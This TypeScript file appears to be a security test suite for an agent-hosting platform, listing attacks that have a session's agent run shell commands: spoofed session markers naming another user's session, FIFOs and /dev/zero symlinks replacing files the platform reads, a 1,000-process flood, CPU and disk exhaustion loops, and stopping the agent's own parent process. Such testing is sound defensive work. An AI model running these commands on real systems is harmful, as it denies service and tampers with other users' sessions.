/** Commands that a session's agent carries out for its owner, on the machine where the platform runs. */
import { ask, runningSession } from "../../support/platform/session-steps.ts";
import { type Attack, type AttackTestbed, atOnce, type Wave } from "../attack.ts";

/** The command runs once in the background of the agent, and the requests are sent in each wave. */
export function command(
	text: string,
	meanwhile?: (testbed: AttackTestbed, id: string) => Promise<unknown>,
): Attack["begin"] {
	return async (testbed) => {
		const { id } = await runningSession(testbed.api);
		let sent: Promise<unknown> | undefined;
		return async () => {
			sent ??= ask(testbed.api, id, `$ (${text}) >/dev/null 2>&1 & echo begun`);
			await sent;
			await meanwhile?.(testbed, id);
		};
	};
}

/** The commands have ended when the waves begin. */
function prepared(text: string, times: number, wave: (testbed: AttackTestbed, id: string) => Wave): Attack["begin"] {
	return async (testbed) => {
		const { id } = await runningSession(testbed.api);
		for (let i = 0; i < times; i++) await ask(testbed.api, id, `$ ${text}`);
		return wave(testbed, id);
	};
}

export const commandAttacks: readonly Attack[] = [
	{
		name: "poisoned-id",
		finding: "H2",
		does: "a process with the marker of an id that is none",
		begin: command("env ATELIER_SESSION=ffffffff-ffff-ffff-ffff-ffffffffffff ATELIER_GENERATION=1 sleep 120"),
	},
	{
		name: "foreign-marker",
		finding: "M3",
		does: "processes with the marker of the other user's session",
		begin: async (testbed) =>
			command(`env ATELIER_SESSION=${testbed.victimId} ATELIER_GENERATION=99 sleep 120`)(testbed),
	},
	{
		name: "fifos",
		finding: "H3",
		does: "FIFOs in the place of the files that the platform reads of a pod, in three sessions",
		begin: async (testbed) => {
			// The platform looks at them when it is asked to stop.
			const each = command("cd $HOME/.. && rm -f status.json ending && mkfifo status.json ending", ({ api }, id) =>
				api.post(`/sessions/${id}/stop`),
			);
			const waves = await Promise.all([1, 2, 3].map(() => each(testbed)));
			return () => Promise.all(waves.map((wave) => wave()));
		},
	},
	{
		name: "endless-files",
		finding: "H3",
		does: "links to /dev/zero in the place of those files, and in the workspace",
		begin: command("ln -s /dev/zero endless; cd $HOME/.. && ln -sf /dev/zero status.json && ln -sf /dev/zero ending"),
	},
	{
		name: "processes",
		finding: "M5",
		does: "1,000 processes",
		begin: command("for i in $(seq 1000); do sleep 120 & done; wait"),
	},
	{
		name: "processor",
		does: "four programs that only calculate",
		begin: command("for i in 1 2 3 4; do timeout 120 yes & done; wait"),
	},
	{
		name: "disk",
		does: "writes 200 MB again and again",
		begin: command("timeout 60 sh -c 'while :; do dd if=/dev/zero of=big bs=1M count=200 conv=fsync; done'"),
	},
	{
		name: "hung-agent",
		finding: "M8",
		does: "stops its own agent and asks for messages, logs and the diff, 60 at once",
		begin: command("kill -STOP $(ps -o ppid= -p $PPID)", ({ api }, id) =>
			atOnce(60, (i) => {
				if (i % 3 === 0) return api.post(`/sessions/${id}/messages`, { content: "hello" });
				return api.get(`/sessions/${id}/${i % 3 === 1 ? "logs" : "diff"}`);
			}),
		),
	},
	{
		name: "diff",
		does: "the diff of 50,000 new files, 8 at once",
		begin: prepared(
			"seq 50000 | xargs touch",
			1,
			({ api }, id) =>
				() =>
					atOnce(8, () => api.get(`/sessions/${id}/diff`)),
		),
	},
	{
		name: "conversation",
		does: "a conversation of 8 MB, 16 at once",
		begin: prepared(
			"head -c 400000 /dev/zero | tr '\\0' x",
			20,
			({ api }, id) =>
				() =>
					atOnce(16, () => api.get(`/sessions/${id}/conversation`)),
		),
	},
];
